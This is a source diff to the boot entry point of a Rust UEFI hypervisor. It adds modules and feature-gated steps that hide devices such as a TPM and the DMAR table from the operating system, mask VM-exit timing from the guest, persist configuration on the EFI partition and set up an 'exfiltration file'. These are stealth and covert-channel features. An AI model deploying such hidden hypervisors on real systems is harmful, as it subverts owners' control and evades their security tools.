@@ -10,19 +10,32 @@ extern crate alloc;
 use {
     crate::{processor::start_hypervisor_on_all_processors, setup::setup, stack::init},
     hypervisor::{
+        acpi::AcpiTables,
         allocator::heap_init,
         logger::{self, SerialPort},
+        vmm::print_compatibility_report,
     },
     log::*,
     uefi::prelude::*,
 };
 
+pub mod benchmark;
+pub mod esp;
+pub mod exfil;
 pub mod hide;
+pub mod manifest;
+pub mod persistence;
 pub mod processor;
 pub mod setup;
 pub mod stack;
 pub mod virtualize;
 
+/// The devices to hide from the operating system, e.g.,
+/// `HiddenDevice::Pci { bdf: Bdf::new(0, 0, 0x1F, 3), acpi_name: None }` or
+/// `HiddenDevice::Mmio { base_pa: 0xFED4_0000, size: 0x5000, acpi_name: Some(*b"TPM0") }`.
+#[cfg(feature = "device_hiding")]
+const HIDDEN_DEVICES: &[hypervisor::intel::device_hiding::HiddenDevice] = &[];
+
 /// Custom panic handler for the UEFI application.
 ///
 /// # Arguments
@@ -69,6 +82,14 @@ fn main(_image_handle: Handle, mut system_table: SystemTable<Boot>) -> Status {
 
     info!("The Matrix is an illusion");
 
+    // Only validate the hardware and print a compatibility report, without virtualizing the system.
+    if cfg!(feature = "preflight_check") {
+        return match print_compatibility_report() {
+            true => Status::SUCCESS,
+            false => Status::UNSUPPORTED,
+        };
+    }
+
     let boot_services = system_table.boot_services();
 
     #[cfg(feature = "hide_uefi_memory")]
@@ -87,6 +108,123 @@ fn main(_image_handle: Handle, mut system_table: SystemTable<Boot>) -> Status {
         return Status::ABORTED;
     }
 
+    // Parse the ACPI tables for the subsystems that depend on them (e.g., DMA remapping and timers).
+    debug!("Parsing ACPI tables");
+    let rsdp = system_table
+        .config_table()
+        .iter()
+        .find(|entry| entry.guid == uefi::table::cfg::ACPI2_GUID)
+        .map(|entry| entry.address as u64);
+
+    match rsdp.map(AcpiTables::initialize_shared_acpi_tables) {
+        Some(Ok(())) => {}
+        Some(Err(e)) => warn!("Failed to parse ACPI tables: {:?}", e),
+        None => warn!("Failed to find the ACPI 2.0 RSDP"),
+    }
+
+    // Place the hook page pool and the host stacks in the NUMA nodes, before the processors are virtualized.
+    hypervisor::intel::numa::NumaTopology::initialize_shared_numa_topology();
+    if let Err(e) = setup::setup_numa_placement(boot_services) {
+        warn!("Failed to place the memory in the NUMA nodes: {:?}", e);
+    }
+
+    // Discover the HPET and ACPI PM timer and calibrate the TSC, before the processors are virtualized.
+    #[cfg(feature = "timing_normalization")]
+    hypervisor::intel::timing::ClockSources::initialize_shared_clock_sources();
+
+    // Discover the ACPI reset and sleep ports, before the processors are virtualized.
+    #[cfg(feature = "reset_control")]
+    hypervisor::intel::reset::ResetControl::initialize_shared_reset_control();
+
+    // Install the trampoline virtualizing the processor again on the wake from S3, before the processors are virtualized.
+    #[cfg(feature = "reset_control")]
+    if let Err(e) = setup::setup_sleep_resume(boot_services) {
+        warn!("Failed to set up the resume from sleep, the hypervisor is lost on the wake from S3: {:?}", e);
+    }
+
+    #[cfg(feature = "dma_protection")]
+    {
+        debug!("Enabling DMA protection of hypervisor memory");
+        let highest_pa = match setup::highest_memory_address(boot_services) {
+            Ok(highest_pa) => highest_pa,
+            Err(e) => {
+                error!("Failed to read the memory map: {:?}", e);
+                return Status::ABORTED;
+            }
+        };
+
+        if let Err(e) = hypervisor::intel::vtd::enable_dma_protection(highest_pa) {
+            error!("Failed to enable DMA protection: {:?}", e);
+            return Status::ABORTED;
+        }
+    }
+
+    // Hide the configured devices from the PCI configuration space, MMIO and ACPI namespace.
+    #[cfg(feature = "device_hiding")]
+    for device in HIDDEN_DEVICES {
+        debug!("Hiding device: {:x?}", device);
+        if let Err(e) = hypervisor::intel::device_hiding::DeviceHiding::hide_device(device) {
+            error!("Failed to hide device {:x?}: {:?}", device, e);
+        }
+    }
+
+    // Hide the DMAR table so the operating system doesn't take over the DMA remapping hardware.
+    #[cfg(feature = "hide_dmar_table")]
+    {
+        debug!("Hiding the DMAR table from the operating system");
+        if let Err(e) = hypervisor::acpi::SHARED_ACPI_TABLES.read().hide_table(hypervisor::acpi::DMAR_SIGNATURE) {
+            error!("Failed to hide the DMAR table: {:?}", e);
+        }
+    }
+
+    // Create the exfiltration file on the ESP while the firmware's file system driver is still available.
+    #[cfg(feature = "exfil_channel")]
+    {
+        debug!("Setting up the exfiltration file on the ESP");
+        if let Err(e) = exfil::setup_exfil_file(boot_services) {
+            error!("Failed to set up the exfiltration file: {:?}", e);
+        }
+    }
+
+    // Read the boot-time hook manifest while the firmware's file system driver is still available.
+    #[cfg(feature = "hook_manifest")]
+    {
+        debug!("Reading the boot-time hook manifest");
+        if let Err(e) = manifest::setup_hook_manifest(&system_table) {
+            error!("Failed to read the hook manifest: {:?}", e);
+            return Status::ABORTED;
+        }
+    }
+
+    // Re-apply the configuration saved by the client on a previous boot, replacing the hook manifest read above.
+    #[cfg(feature = "persistent_config")]
+    {
+        debug!("Setting up the configuration file on the ESP");
+        if let Err(e) = persistence::setup_persistent_config(boot_services) {
+            error!("Failed to set up the persistent configuration: {:?}", e);
+        }
+    }
+
+    // Arm the benchmark run of this boot, once the hook manifest is read and the TSC is calibrated.
+    #[cfg(feature = "benchmark")]
+    {
+        debug!("Reading the benchmark plan");
+        if let Err(e) = benchmark::setup_benchmark(&system_table) {
+            error!("Failed to set up the benchmark: {:?}", e);
+        }
+    }
+
+    // Select the personality of the guest, instead of detecting it from its syscall entry.
+    #[cfg(feature = "windows_guest")]
+    hypervisor::personality::set_guest_personality(hypervisor::personality::GuestPersonality::Windows);
+
+    #[cfg(feature = "linux_guest")]
+    hypervisor::personality::set_guest_personality(hypervisor::personality::GuestPersonality::Linux);
+
+    // Measure the duration of CPUID before virtualization, to calibrate the exit latency hidden from the guest TSC.
+    #[cfg(feature = "tsc_compensation")]
+    let native_cpuid_ticks = hypervisor::intel::tsc_compensation::measure_cpuid_ticks();
+
     // Attempt to start the hypervisor on all processors.
     debug!("Starting hypervisor on all processors");
     if let Err(e) = start_hypervisor_on_all_processors(boot_services) {
@@ -94,6 +232,10 @@ fn main(_image_handle: Handle, mut system_table: SystemTable<Boot>) -> Status {
         return Status::ABORTED;
     }
 
+    // This runs as the guest on the bootstrap processor, with the handling time of the VM exits already compensated.
+    #[cfg(feature = "tsc_compensation")]
+    hypervisor::intel::tsc_compensation::calibrate_exit_latency(native_cpuid_ticks);
+
     // Return success status to UEFI environment.
     Status::SUCCESS
 }